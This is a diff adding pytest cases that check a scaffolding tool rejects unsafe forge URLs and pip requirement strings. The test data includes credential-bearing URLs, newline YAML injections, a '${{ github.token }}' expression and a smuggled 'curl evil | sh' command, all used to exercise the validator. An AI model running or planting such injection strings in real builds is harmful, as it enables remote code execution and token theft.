@@ -261,6 +261,25 @@ def test_a_forge_names_all_that_it_lacks_at_once(forge: str, tmp_path: Path) -> 
     assert files_in(tmp_path) == {}
 
 
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"base_url": "https://u:secret@git.example.com"}, "--base-url: the URL has credentials"),
+        ({"base_url": "https://token@git.example.com/api"}, "--base-url: the URL has credentials"),
+        ({"base_url": "https://h/\n  x: y"}, "--base-url: a link begins with"),
+        ({"base_url": "https://h/${{ x }}"}, "--base-url: a link begins with"),
+        ({"repository": "o/n\n  automation: {mode: auto-merge}"}, "--repository: "),
+    ],
+)
+def test_a_forge_that_would_not_load_names_its_flag(fields: dict[str, str], message: str, tmp_path: Path) -> None:
+    choices = Choices(**{"forge": "gitea", "repository": "o/n", "base_url": "https://h", **fields})  # type: ignore[arg-type]
+    with pytest.raises(UserError) as raised:
+        create_repository(tmp_path, "models", choices, NOW)
+    assert raised.value.message.startswith(message)
+    assert "secret" not in raised.value.message
+    assert files_in(tmp_path) == {}
+
+
 def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
     requirement = parse_requirement(GIT)
     create_repository(tmp_path, "hub", Choices(requirement=requirement), NOW)
@@ -286,6 +305,7 @@ def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
         GIT,
         f"rollout-spec @ {GIT}",
         "rollout-spec @ https://files.example.com/rollout_spec-0.1.0-py3-none-any.whl",
+        "git+ssh://git@git.example.com/rollout-spec@abc",
     ],
 )
 def test_a_source_that_pip_can_install(text: str) -> None:
@@ -298,6 +318,8 @@ def test_a_source_that_pip_can_install(text: str) -> None:
         ("requests", "is not rollout-spec"),
         ("git+https://git.example.com/rollout-spec", "names no commit or tag"),
         ("git+https://bot:secret@git.example.com/rollout-spec@abc", "password"),
+        ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "password"),
+        ("rollout-spec @ https://ghp_secret@files.example.com/rs.whl", "password"),
         ('rollout-spec"; curl evil | sh; "', "unsafe"),
         ("rollout-spec==${{ github.token }}", "unsafe"),
         ("rollout-spec\n  - run: evil", "unsafe"),
